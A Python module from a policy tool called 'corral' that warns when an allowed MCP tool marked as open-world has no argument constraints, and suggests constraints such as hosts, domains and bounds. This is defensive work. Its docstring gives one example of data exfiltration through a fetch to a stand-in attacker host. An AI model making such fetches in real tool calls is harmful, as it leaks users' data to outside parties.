"""Open-world tools: the ones that should get argument constraints.

MCP's ``openWorldHint`` (true when a server says nothing) marks a tool that reaches outside
its server: the web, other systems. Allowed as a read, such a tool can still carry data out
in its arguments (a fetch of ``https://evil.example/?d=...``). ``corral mcp pin``, and
``corral check`` where a lock file sits beside the policy, warn for each allowed open-world
tool the policy puts no argument constraint on, suggesting constraints for its arguments
(schemes and hosts for a URL, domains for a host, a pattern for an address, bounds for a
number, a length for a string).

Works on wire definitions (plain JSON, as the lock file keeps them): imports the policy's
schema, not the ``mcp`` SDK.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

from corral.policy.schema import Policy

__all__ = ["open_world", "open_world_warnings", "suggestion"]


def open_world(definition: Mapping[str, Any]) -> bool:
    """Whether the tool reaches an open world: ``annotations.openWorldHint``, true when the
    server says nothing (the spec's default)."""
    hints = definition.get("annotations")
    return not isinstance(hints, Mapping) or hints.get("openWorldHint") is not False


def suggestion(arg: str, schema: Any) -> str:
    """The constraint to suggest for argument ``arg`` (its JSON Schema ``schema``)."""
    spec = schema if isinstance(schema, Mapping) else {}
    kind = spec.get("type")
    lowered = arg.lower()
    if spec.get("format") in ("uri", "url", "iri") or any(
        word in lowered for word in ("url", "uri", "link", "endpoint", "href")
    ):
        return f"{arg}: {{schemes: [https], hosts: [...]}}"
    if "host" in lowered or "domain" in lowered:
        return f"{arg}: {{domains: [...]}}"
    if "email" in lowered or "recipient" in lowered or lowered in ("to", "cc", "bcc"):
        return f"{arg}: {{pattern: ...}}"
    if kind in ("integer", "number"):
        return f"{arg}: {{min: ..., max: ...}}"
    if kind == "array":
        return f"{arg}: {{max_items: ...}}"
    if kind == "string" and "enum" not in spec:
        return f"{arg}: {{max_length: ...}}"
    return f"{arg}: {{enum: [...]}}"


def open_world_warnings(
    policy: Policy, definitions: Mapping[str, Mapping[str, Any] | None]
) -> list[str]:
    """One warning per allowed open-world tool (by its policy name; ``definitions`` are wire
    definitions) the policy puts no argument constraint on, with the constraints to add."""
    out = []
    for name, definition in sorted(definitions.items()):
        if definition is None or not policy.allows(name) or not open_world(definition):
            continue
        spec = policy.spec(name)
        if spec is not None and spec.constraints:
            continue
        schema = definition.get("inputSchema")
        properties = schema.get("properties") if isinstance(schema, Mapping) else None
        args = properties if isinstance(properties, Mapping) else {}
        hint = "; ".join(suggestion(str(arg), s) for arg, s in args.items())
        where = f"tools.specs.{name}.constraints"
        out.append(
            f"{name} reaches an open world (openWorldHint) and has no argument constraints: "
            + (f"add {where} ({hint})" if hint else f"it takes no arguments ({where})")
        )
    return out
